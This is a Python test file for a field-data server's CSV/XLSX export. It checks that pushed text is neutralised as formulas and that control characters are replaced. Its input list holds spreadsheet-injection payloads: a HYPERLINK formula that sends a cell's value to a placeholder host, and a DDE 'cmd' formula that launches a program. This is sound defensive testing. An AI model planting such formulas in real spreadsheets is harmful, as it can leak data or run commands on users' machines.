"""``fieldapp-server export`` (issue 10, findings 1 and 2) on each database: text a cadre pushed never becomes a live
formula in the office's CSV or XLSX, and a stored row holding characters XML cannot hold does not stop the XLSX."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from openpyxl import load_workbook
from server_helpers import AppServer, enterprise, item, visit
from sqlalchemy import update

from fieldapp.core.cells import cell_text
from sync.server.cli import main
from sync.server.config import ENV_DATABASE_URL
from sync.server.db import write_session
from sync.server.models import Record

NAMES = ['=HYPERLINK("http://x/?"&B2,"Bấm")', "+1", "-2", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def _export(server: AppServer, fmt: str, output: Path) -> None:
    result = CliRunner().invoke(
        main,
        ["export", "--format", fmt, "--output", str(output), "--database-url", server.database_url],
        env={ENV_DATABASE_URL: None},
    )
    assert result.exit_code == 0, result.output


def _fill(server: AppServer) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    admin = server.api("admin", "office")
    records = [enterprise(name=name) for name in NAMES]
    v = visit(records[0]["id"], "office", note="=1+1 người ký đơn")
    results = admin.push([*(item("enterprise", r) for r in records), item("visit", v)])
    assert {r["status"] for r in results} == {"accepted"}
    return records, v


def test_pushed_formulas_are_text_in_the_server_csv_and_xlsx(any_server: AppServer, tmp_path: Path) -> None:
    _fill(any_server)
    folder, book = tmp_path / "csv", tmp_path / "all.xlsx"
    _export(any_server, "csv", folder)
    _export(any_server, "xlsx", book)

    with (folder / "enterprises.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert all(r["name"].startswith("'") for r in rows)
    assert sorted(cell_text(r["name"]) for r in rows) == sorted(NAMES)  # what fieldapp import reads back
    assert {r["union_members"] for r in rows} == {"0"}
    with (folder / "visits.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert [r["note"] for r in csv.DictReader(fh)] == ["'=1+1 người ký đơn"]

    workbook = load_workbook(book)  # not read-only: only the full reader tells a formula from text
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {f"'{name}" for name in NAMES} <= values
    assert 40 in values  # registered_workers: a number stays a number


def test_a_stored_row_with_control_characters_still_exports(any_server: AppServer, tmp_path: Path) -> None:
    records, v = _fill(any_server)
    # what an older server, or a row written around the API, may hold: the record rule would refuse it today
    bad = {**records[1], "name": "Công ty\x01\x1b[2J", "address": "\x0b-5 Lê Lợi"}
    with write_session(any_server.engine) as session:
        session.execute(update(Record).where(Record.id == bad["id"]).values(content=bad))
    book, folder = tmp_path / "all.xlsx", tmp_path / "csv"
    _export(any_server, "xlsx", book)
    _export(any_server, "csv", folder)
    sheet = load_workbook(book)["enterprises"]
    rows = list(sheet.iter_rows(values_only=True))
    by_id = {row[0]: row for row in rows[1:]}
    header = rows[0]
    assert by_id[bad["id"]][header.index("name")] == "Công ty\ufffd\ufffd[2J"
    assert by_id[bad["id"]][header.index("address")] == "\ufffd-5 Lê Lợi"
    with (folder / "enterprises.csv").open(encoding="utf-8-sig", newline="") as fh:
        names = {r["id"]: r["name"] for r in csv.DictReader(fh)}
    assert names[bad["id"]] == "Công ty\ufffd\ufffd[2J"
